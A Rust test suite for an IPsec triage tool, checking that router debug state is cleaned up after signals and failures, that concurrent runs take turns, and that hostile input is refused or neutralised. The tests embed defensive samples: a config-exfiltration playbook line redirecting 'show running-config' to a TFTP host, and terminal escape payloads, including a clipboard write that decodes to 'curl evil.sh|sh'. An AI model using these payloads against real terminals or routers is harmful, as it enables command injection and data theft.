//! Issue 7, safe on production routers: every way a run can be stopped or can fail still
//! switches off what it switched on, runs on one router take turns, a run leaves others'
//! debugs as it found them, nothing hostile reaches the terminal, a router presenting another
//! key type is refused, and a run that judged nothing says why.
//!
//! The signal tests send real signals to the real binary running against a lab, then read
//! the lab routers' debug state.

use crate::util::fixture::{Fixture, with_live};
use crate::util::{StepTrap, assert_cleaned, bin, corpus, quiet_lab};
use ipsec_doctor::cli::triage::{Args, execute, execute_quiet};
use ipsec_doctor::lab::router::DebugKind;
use ipsec_doctor::report::{self, Format, Report};
use ipsec_doctor::run::progress::Progress;
use std::io::{BufRead, BufReader};
use std::net::Ipv4Addr;
use std::process::{Output, Stdio};
use std::time::Duration;

fn only(reports: Vec<Report>) -> Report {
    assert_eq!(reports.len(), 1, "{reports:#?}");
    reports.into_iter().next().unwrap()
}

/// Sends `signal` (a `kill -s` name) to `pid`.
fn kill(signal: &str, pid: u32) {
    let status = std::process::Command::new("kill")
        .args(["-s", signal, &pid.to_string()])
        .status()
        .expect("kill runs");
    assert!(status.success(), "kill -s {signal} {pid}");
}

async fn wait(child: std::process::Child) -> Output {
    tokio::task::spawn_blocking(move || child.wait_with_output())
        .await
        .unwrap()
        .unwrap()
}

/// A long debug window on a lab whose IKE never completes (the peer has no route), so the
/// run is surely inside it when the signal comes.
async fn signalled(signals: &[&str]) -> (Fixture, Output, serde_json::Value) {
    let fx = Fixture::start("peer-no-route", 1.0).await;
    let child = fx
        .triage(&["--debug-window", "60s", "--idle-cutoff", "60s"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    fx.until_debug_on("R1").await;
    fx.until_debug_on("R2").await;
    for s in signals {
        kill(s, child.id());
    }
    let out = wait(child).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.code().is_some(),
        "{signals:?} killed the process instead of stopping the run: {:?}\n{stderr}",
        out.status
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{stderr}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(v["run"]["interrupted"], true, "{v:#}");
    for c in v["run"]["cleanup"].as_array().unwrap() {
        assert_eq!(c["debug_off_confirmed"], true, "{v:#}");
    }
    assert_eq!(v["run"]["cleanup"].as_array().unwrap().len(), 2, "{v:#}");
    assert!(fx.debug_quiet(), "debug left on after {signals:?}");
    (fx, out, v)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_during_the_debug_window_cleans_up() {
    let (fx, out, _) = signalled(&["TERM"]).await;
    assert!(String::from_utf8_lossy(&out.stderr).contains("SIGTERM"));
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sighup_during_the_debug_window_cleans_up() {
    let (fx, _, _) = signalled(&["HUP"]).await;
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigquit_during_the_debug_window_cleans_up() {
    let (fx, _, _) = signalled(&["QUIT"]).await;
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_ctrl_c_does_not_cut_the_cleanup_short() {
    let (fx, out, v) = signalled(&["INT", "INT", "TERM"]).await;
    assert_eq!(
        out.status.code(),
        Some(v["exit_code"].as_i64().unwrap() as i32)
    );
    fx.lab.stop().await;
}

/// Cleanup has a deadline per router: a router that stops answering in the middle of a
/// command does not hold the run (and whoever waits on it) for ever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cleanup_ends_at_its_deadline_and_says_debug_may_still_be_on() {
    let (lab, release) = quiet_lab::start().await;
    let dir = tempfile::tempdir().unwrap();
    lab.write_inventory(&dir.path().join("inventory.yaml"))
        .unwrap();
    lab.write_known_hosts(&dir.path().join("known_hosts"))
        .unwrap();
    // The quiet routers' ping never returns: R1's session is stuck behind it when the stop
    // comes, and the commands that would switch debug off queue up behind it.
    let pb = dir.path().join("playbook.yaml");
    std::fs::write(
        &pb,
        "name: t\nsteps:\n  - id: dbg\n    kind: debug\n    peer: both\n    safety: debug\n    commands: [debug crypto isakmp]\n    duration: 60s\n    trigger:\n      peer: a\n      command: ping 192.0.2.1 repeat 5\n    explain: x\n",
    )
    .unwrap();
    let (progress, rx) = StepTrap::new("ping ");
    let stop = async move {
        let _ = rx.await;
    };
    let args = Args {
        inventory: Some(dir.path().join("inventory.yaml")),
        playbook: Some(pb),
        ..with_live(crate::util::fixture::args(), |l| {
            l.known_hosts = Some(dir.path().join("known_hosts"));
            l.debug_window = Some(Duration::from_secs(60));
            l.cleanup_deadline = Duration::from_millis(1500);
        })
    };
    let report = only(execute(args, stop, &progress).await.unwrap());
    assert_eq!(report.exit_code, 3);
    let run = report.run.as_ref().unwrap();
    let r1 = run.cleanup.iter().find(|c| c.router == "R1").unwrap();
    assert!(!r1.debug_off_confirmed, "{run:#?}");
    assert!(r1.detail.contains("did not finish within 1.5 s"), "{r1:#?}");
    let r2 = run.cleanup.iter().find(|c| c.router == "R2").unwrap();
    assert!(r2.debug_off_confirmed, "{run:#?}");
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.starts_with("DEBUG MAY STILL BE ON on R1")
                && w.contains("`no debug crypto isakmp`")),
        "{:?}",
        report.warnings
    );
    let text = report::render(Format::Text, std::slice::from_ref(&report), false);
    assert!(text.contains("DEBUG NOT CONFIRMED OFF"), "{text}");
    release.notify_waiters();
    lab.stop().await;
}

/// Panics in the middle of the debug window, once both routers have debug on.
struct PanicAtTrigger;

impl Progress for PanicAtTrigger {
    fn step(&self, _router: &str, what: &str) {
        if what.starts_with("ping ") {
            panic!("a bug in the middle of the debug window");
        }
    }
    fn lines(&self, _: &str, _: u64) {}
    fn finish(&self) {}
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_panic_in_the_debug_window_still_cleans_up_and_exits_unknown() {
    let fx = Fixture::start("healthy", 200.0).await;
    let report = only(
        execute(fx.args(), std::future::pending(), &PanicAtTrigger)
            .await
            .unwrap(),
    );
    let run = report.run.as_ref().unwrap();
    assert_eq!(
        run.internal_error.as_deref(),
        Some("a bug in the middle of the debug window")
    );
    assert_eq!(report.exit_code, 3);
    assert_cleaned(&report);
    assert_eq!(run.cleanup.len(), 2, "both routers had debug on: {run:#?}");
    assert!(fx.debug_quiet());
    fx.lab.stop().await;
}

#[test]
fn durations_beyond_the_playbook_limit_are_refused_not_overflowed() {
    for (flag, value) in [
        ("--idle-cutoff", "18446744073709551615s"),
        ("--debug-window", "601s"),
        ("--idle-cutoff", "307445734561825861m"),
    ] {
        let out = bin()
            .args(["triage", "--lab", "healthy", flag, value])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{flag} {value}: {stderr}");
        assert!(stderr.contains(flag), "{stderr}");
        assert!(
            stderr.contains("600s") || stderr.contains("too long"),
            "{stderr}"
        );
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runs_on_one_router_take_turns() {
    let fx = Fixture::start("psk-mismatch", 200.0).await;
    let window = ["--debug-window", "3s", "--idle-cutoff", "3s"];
    let first = fx
        .triage(&window)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let first_pid = first.id();
    fx.until_debug_on("R1").await;
    let mut second = fx
        .triage(&window)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The second run says whom it waits for before it touches either router.
    let stderr = second.stderr.take().unwrap();
    let said = tokio::task::spawn_blocking(move || {
        let mut lines = BufReader::new(stderr).lines();
        let first = lines.next().and_then(Result::ok).unwrap_or_default();
        let rest: Vec<String> = lines.map_while(Result::ok).collect();
        (first, rest)
    });
    let one = wait(first).await;
    let two = wait(second).await;
    let (line, _) = said.await.unwrap();
    assert!(
        line.starts_with("ipsec-doctor: waiting for the run on R")
            && line.ends_with(&format!("(pid {first_pid}) to finish")),
        "{line}"
    );
    for out in [&one, &two] {
        assert_eq!(out.status.code(), Some(2));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let codes: Vec<&str> = v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|f| f["code"].as_str())
            .collect();
        assert!(codes.contains(&"P1_PSK_MISMATCH"), "{codes:?}");
        assert!(!codes.contains(&"PEER_SILENT"), "{v:#}");
        for c in v["run"]["cleanup"].as_array().unwrap() {
            assert_eq!(c["debug_off_confirmed"], true, "{v:#}");
        }
    }
    assert!(fx.debug_quiet());
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn debugs_found_on_are_left_as_found_and_no_window_is_opened_there() {
    let fx = Fixture::start("healthy", 200.0).await;
    let r1 = fx.lab.router_state("R1").unwrap().clone();
    let r2 = fx.lab.router_state("R2").unwrap().clone();
    // A colleague debugs R2, and left a condition for another peer on R1.
    r2.debug.set(DebugKind::CryptoIsakmp, true);
    let other = Ipv4Addr::new(198, 51, 100, 9);
    r1.debug.add_peer_condition(other);
    let report = only(
        execute_quiet(fx.args(), std::future::pending())
            .await
            .unwrap(),
    );
    let run = report.run.as_ref().unwrap();
    assert!(
        run.steps.iter().any(|s| s.step == "debug-window"
            && s.router == "R2"
            && format!("{:?}", s.status).contains("already on")),
        "{run:#?}"
    );
    assert!(
        !run.steps
            .iter()
            .any(|s| s.router == "R2" && s.command.starts_with("debug crypto")),
        "{run:#?}"
    );
    // R1 got its window and its cleanup undid exactly that.
    let c = run.cleanup.iter().find(|c| c.router == "R1").unwrap();
    assert!(c.debug_off_confirmed, "{c:#?}");
    assert_eq!(
        c.commands,
        [
            "no debug crypto ipsec",
            "no debug crypto isakmp",
            "no debug crypto condition peer ipv4 203.0.113.2"
        ]
    );
    assert!(!run.cleanup.iter().any(|c| c.router == "R2"));
    let s2 = r2.debug.get();
    assert!(s2.crypto_isakmp && !s2.crypto_ipsec, "R2 as found: {s2:?}");
    let s1 = r1.debug.get();
    assert!(!s1.crypto_isakmp && !s1.crypto_ipsec);
    assert_eq!(s1.peer_conditions.into_iter().collect::<Vec<_>>(), [other]);
    assert!(
        report
            .warnings
            .iter()
            .any(|w| w.contains("R2 had crypto debugs on") && w.contains("left as found")),
        "{:?}",
        report.warnings
    );
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_interrupted_run_reports_every_unchecked_tunnel_in_every_format() {
    let fx = Fixture::start("healthy", 200.0).await;
    let mut inv = std::fs::read_to_string(fx.inventory()).unwrap();
    inv.push_str("- name: second\n  a: R2\n  b: R1\n- name: third\n  a: R1\n  b: R2\n");
    std::fs::write(fx.inventory(), inv).unwrap();
    let (progress, rx) = StepTrap::new("debug on");
    let stop = async move {
        let _ = rx.await;
    };
    let reports = execute(fx.args(), stop, &progress).await.unwrap();
    let names: Vec<&str> = reports.iter().map(|r| r.subject.as_str()).collect();
    assert_eq!(names, ["R1-R2", "second", "third"]);
    assert!(reports[0].run.as_ref().unwrap().interrupted);
    assert_cleaned(&reports[0]);
    for r in &reports[1..] {
        assert_eq!(r.exit_code, 3);
        assert_eq!(r.reason.as_deref(), Some("not checked: interrupted"));
    }
    let json: serde_json::Value =
        serde_json::from_str(&report::render(Format::Json, &reports, false)).unwrap();
    for i in 1..3 {
        assert_eq!(json[i]["verdict"], "unknown");
        assert_eq!(json[i]["exit_code"], 3);
        assert_eq!(json[i]["reason"], "not checked: interrupted");
    }
    let prom = report::render(Format::Prometheus, &reports, false);
    for t in ["second", "third"] {
        assert!(
            prom.contains(&format!("ipsec_doctor_status{{tunnel=\"{t}\"}} 3")),
            "{prom}"
        );
        assert!(
            prom.contains(&format!(
                "ipsec_doctor_unknown_reason{{tunnel=\"{t}\",reason=\"not checked: interrupted\"}} 1"
            )),
            "{prom}"
        );
    }
    for format in [Format::Text, Format::Markdown] {
        let out = report::render(format, &reports, false);
        assert_eq!(out.matches("not checked: interrupted").count(), 2, "{out}");
    }
    assert!(fx.debug_quiet());
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_that_could_not_connect_names_each_routers_error() {
    let fx = Fixture::start("healthy", 200.0).await;
    let args = fx.args();
    let dir = fx.dir;
    fx.lab.stop().await;
    let report = only(execute_quiet(args, std::future::pending()).await.unwrap());
    assert_eq!(report.exit_code, 3);
    let run = report.run.as_ref().unwrap();
    let routers: Vec<&str> = run.unreachable.iter().map(|u| u.router.as_str()).collect();
    assert_eq!(routers, ["R1", "R2"]);
    assert!(
        run.unreachable
            .iter()
            .all(|u| u.error.contains("cannot connect"))
    );
    let reason = report.reason.as_deref().unwrap();
    assert!(
        reason.starts_with("could not connect: R1: ") && reason.contains("; R2: "),
        "{reason}"
    );
    let text = report::render(Format::Text, std::slice::from_ref(&report), false);
    assert!(text.contains("UNKNOWN"), "{text}");
    assert!(text.contains("Not diagnosed: could not connect"), "{text}");
    assert!(!text.contains("No finding"), "{text}");
    let json: serde_json::Value =
        serde_json::from_str(&report::render(Format::Json, &[report], false)).unwrap();
    assert_eq!(json["verdict"], "unknown");
    assert_eq!(json["run"]["unreachable"][1]["router"], "R2");
    drop(dir);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_router_presenting_another_key_type_is_refused_even_when_learning() {
    let fx = Fixture::start("healthy", 200.0).await;
    // known_hosts records ECDSA keys for both routers; the lab's routers present Ed25519.
    const ECDSA: &str = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBLCioIxgIFTa0e9w6FrBuO5AMbgVjvM1fbraaqj+OTZiVCHKWTnchQlz8zb9X9zydLAUv0UQ/WdJJBM71licPQc=";
    let mut known = String::from("# routers, recorded earlier\n");
    for r in ["R1", "R2"] {
        let ep = fx.lab.router(r).unwrap();
        known.push_str(&format!("[{}]:{} {ECDSA}\n", ep.address, ep.port));
    }
    std::fs::write(fx.known_hosts(), &known).unwrap();
    let report = only(
        execute_quiet(
            with_live(fx.args(), |l| l.accept_new_host_keys = true),
            std::future::pending(),
        )
        .await
        .unwrap(),
    );
    let run = report.run.as_ref().unwrap();
    assert_eq!(run.unreachable.len(), 2, "{run:#?}");
    let path = fx.known_hosts().display().to_string();
    for (u, line) in run.unreachable.iter().zip([2, 3]) {
        assert!(
            u.error.contains("HOST KEY CHANGED")
                && u.error.contains(&format!("line {line} of {path}"))
                && u.error.contains("ecdsa-sha2-nistp256")
                && u.error.contains("ssh-ed25519"),
            "{}",
            u.error
        );
    }
    assert_eq!(std::fs::read_to_string(fx.known_hosts()).unwrap(), known);
    assert!(run.steps.is_empty(), "nothing ran: {run:#?}");
    fx.lab.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_playbook_outside_its_class_is_refused_before_any_router_is_contacted() {
    let fx = Fixture::start("healthy", 200.0).await;
    let pb = fx.playbook(
        "name: t\nsteps:\n  - id: grab\n    kind: show\n    peer: both\n    safety: read\n    command: show running-config | redirect tftp://192.0.2.9/r.cfg\n    explain: x\n",
    );
    let err = execute_quiet(
        Args {
            playbook: Some(pb),
            ..fx.args()
        },
        std::future::pending(),
    )
    .await
    .unwrap_err();
    let text = format!("{err:#}");
    assert!(text.contains("playbook.yaml:7:36: step `grab`"), "{text}");
    assert!(text.contains("| redirect"), "{text}");
    fx.lab.stop().await;
}

/// Escapes a router prints (clipboard, title, reset, a terminal query, bidi) arrive visible
/// through the session; cursor codes are dropped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_router_output_is_shown_not_obeyed() {
    use ipsec_doctor::device::{IosSession, SessionOptions};
    use ipsec_doctor::inventory::Inventory;
    use ipsec_doctor::ssh::HostKeyPolicy;
    let hostile = "peer\x1b[1;1H \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 \x1b]0;owned\x1b\\ \x1bc \x1b[6n \u{202e}end";
    let (lab, _release) = quiet_lab::start_printing(vec![hostile.to_string()]).await;
    let dir = tempfile::tempdir().unwrap();
    let inv = dir.path().join("inventory.yaml");
    lab.write_inventory(&inv).unwrap();
    lab.write_known_hosts(&dir.path().join("known_hosts"))
        .unwrap();
    let inventory = Inventory::load(&inv).unwrap();
    let host = inventory.host("R1").unwrap();
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    let options: SessionOptions = host.session_options(false);
    let mut s = IosSession::connect(
        "R1",
        &host.ssh_target(),
        &HostKeyPolicy::strict(dir.path().join("known_hosts")),
        options,
        tx,
    )
    .await
    .unwrap();
    let out = s
        .run("show crypto isakmp sa", Duration::from_secs(5))
        .await
        .unwrap();
    let line = out.lines.last().unwrap();
    assert_eq!(
        line,
        "peer \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07 \\x1b]0;owned\\x1b\\ \\x1bc \\x1b[6n \\u{202e}end"
    );
    let _ = s.close().await;
    lab.stop().await;
}

/// The same kinds of escape in a capture file, and in the names the user gave, reach no
/// report as control characters; JSON keeps the value, escaped.
#[test]
fn hostile_captures_are_shown_not_obeyed_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = std::fs::read(corpus("debug/p1-psk-missing-01.log")).unwrap();
    let at = data
        .windows(35)
        .position(|w| w == b"No pre-shared key with 203.0.113.1!")
        .unwrap()
        + 35;
    data.splice(
        at..at,
        b" \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1bc\xe2\x80\xae\xc2\x9b6n"
            .iter()
            .copied(),
    );
    let path = dir.path().join("r1.log");
    std::fs::write(&path, &data).unwrap();
    let named = format!("hub\x1b]0;x\x07={}", path.display());
    for format in ["text", "markdown", "prometheus", "json"] {
        let out = bin()
            .args([
                "analyze", "--peer", &named, "--format", format, "--color", "never",
            ])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{format}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text
                .chars()
                .any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'),
            "{format}: {text:?}"
        );
        let name = match format {
            "prometheus" => "hub\\\\x1b]0;x\\\\x07",
            "json" => "hub\\u001b]0;x\\u0007",
            _ => "hub\\x1b]0;x\\x07",
        };
        assert!(text.contains(name), "{format}: {text}");
        if format == "json" {
            let v: serde_json::Value = serde_json::from_str(&text).unwrap();
            let quoted = v["findings"][0]["evidence"][0]["text"].as_str().unwrap();
            assert!(
                quoted.ends_with(
                    "203.0.113.1! \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1bc\u{202e}\u{9b}6n"
                ),
                "{quoted:?}"
            );
            continue;
        }
        if format != "prometheus" {
            assert!(
                text.contains(
                    "203.0.113.1! \\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\\x1bc\\u{202e}\\x9b6n"
                ),
                "{format}: {text}"
            );
        }
    }
}

#[test]
fn verbose_and_rust_log_write_tracing_logs_to_stderr() {
    let run = |args: &[&str], env: Option<&str>| {
        let mut c = bin();
        c.args(args).env_remove("RUST_LOG");
        if let Some(v) = env {
            c.env("RUST_LOG", v);
        }
        let out = c.output().unwrap();
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let lab = [
        "triage",
        "--lab",
        "healthy",
        "--format",
        "json",
        "--debug-window",
        "2s",
        "--idle-cutoff",
        "300ms",
        "--lab-speed",
        "200",
    ];
    let quiet = run(&lab, None);
    assert!(!quiet.contains(" INFO "), "{quiet}");
    let v = run(&[&["-v"][..], &lab].concat(), None);
    assert!(v.contains(" INFO ") && v.contains("connecting"), "{v}");
    assert!(v.contains("debug off, confirmed by show debug"), "{v}");
    assert!(!v.contains(" DEBUG "), "{v}");
    let vv = run(&[&["-vv"][..], &lab].concat(), None);
    assert!(
        vv.contains(" DEBUG ") && vv.contains("show crypto isakmp sa"),
        "{vv}"
    );
    let env = run(&lab, Some("ipsec_doctor=debug"));
    assert!(env.contains(" DEBUG "), "{env}");
    let help = String::from_utf8(bin().arg("--help").output().unwrap().stdout).unwrap();
    assert!(help.contains("-v") && help.contains("RUST_LOG"), "{help}");
}

#[test]
fn each_error_is_said_once() {
    let dir = tempfile::tempdir().unwrap();
    let inv = dir.path().join("inv.yaml");
    std::fs::write(
        &inv,
        "hosts:\n  r1:\n    hostname: 127.0.0.1\n    prot: 22\n",
    )
    .unwrap();
    let out = bin()
        .args(["triage", "-i", inv.to_str().unwrap()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(
        stderr.matches("did you mean `port`?").count(),
        1,
        "{stderr}"
    );
    assert!(stderr.contains("inv.yaml:4:5"), "{stderr}");

    let missing = dir.path().join("missing.yaml");
    let out = bin()
        .args(["triage", "-i", missing.to_str().unwrap()])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        stderr.matches("No such file or directory").count(),
        1,
        "{stderr}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
}
